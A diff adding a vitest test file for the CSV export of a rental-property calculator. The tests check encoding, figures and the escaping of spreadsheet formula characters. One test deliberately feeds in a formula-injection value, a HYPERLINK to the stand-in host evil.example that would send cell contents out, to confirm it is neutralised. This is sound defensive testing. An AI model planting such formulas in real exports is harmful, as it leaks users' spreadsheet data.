@@ -1,0 +1,71 @@
+import { calculators } from '@cancha/contract/calculators'
+import { CALCULATORS } from '@cancha/domain/calculators/calculators'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { analysis, EXAMPLES } from '../../testing/analyses.ts'
+import { type Person, person } from '../../testing/cast.ts'
+import { callAs } from '../../testing/requests.ts'
+import { createTestApp, type TestApp } from '../../testing/test-app.ts'
+import { field } from './csv.ts'
+
+let app: TestApp
+let ana: Person
+beforeAll(async () => {
+  app = await createTestApp({ CANCHA_LIMITS: 'on' })
+  ana = await person(app)
+})
+afterAll(() => app.close())
+
+const csv = (who: Person, shortid: string) =>
+  callAs(app, who, calculators.analysisTables, { params: { shortid } })
+
+describe('the CSV of an analysis', () => {
+  test('has the mark of UTF-8, every figure with its decimals and every row of the tables', async () => {
+    const shortid = await analysis(app, ana, { type: 'rental_property', data: EXAMPLES.rental_property })
+    const answer = await csv(ana, shortid)
+    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8')
+    expect([...answer.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
+    const lines = answer.body.trimEnd().split('\r\n')
+    expect(lines).toContain('"Precio de compra","100000","Purchase price"')
+    expect(
+      lines.some(
+        (line) =>
+          line.startsWith('"Pago de la hipoteca","1097.74') ||
+          line.startsWith('"Pago de la hipoteca","1097.75'),
+      ),
+    ).toBe(true)
+    expect(lines).toContain('"Ganancia sobre tu dinero","∞","Cash on cash"')
+    const { tables } = CALCULATORS.rental_property
+    for (const { title, rows } of tables(EXAMPLES.rental_property)) {
+      const from = lines.indexOf(`"${title}"`)
+      expect(from, title).toBeGreaterThan(0)
+      expect(lines.slice(from + 2, from + 2 + rows.length).every((line) => /^"\d+",/.test(line))).toBe(true)
+    }
+  })
+
+  test.each([
+    ['=1+1', `"'=1+1"`],
+    ['+1', `"'+1"`],
+    ['-1', `"'-1"`],
+    ['@SUM(A1)', `"'@SUM(A1)"`],
+    ['\t=1', `"'\t=1"`],
+    ['  =1', `"'  =1"`],
+    ['\r=1', `"'\r=1"`],
+    ['dijo "sí"', '"dijo ""sí"""'],
+    ['a,b', '"a,b"'],
+    ['a\nb', '"a\nb"'],
+    ['', '""'],
+    [null, '""'],
+    [-41_100, '"-41100"'],
+    ['∞', '"∞"'],
+  ])('%j is written %s', (cell, shown) => {
+    expect(field(cell)).toBe(shown)
+  })
+
+  test('never runs what was typed as an address or a name', async () => {
+    const street = '=HYPERLINK("http://evil.example?"&A1;"Abrir")'
+    const shortid = await analysis(app, ana, { data: { street, purchase_price: 1 }, name: '@SUM(1+9)' })
+    const cells = (await csv(ana, shortid)).body.replace('\uFEFF', '').match(/"(?:[^"]|"")*"/g) ?? []
+    expect(cells.length).toBeGreaterThan(20)
+    expect(cells.filter((cell) => /^"[=+@]|^"-\D/.test(cell))).toEqual([])
+  })
+})
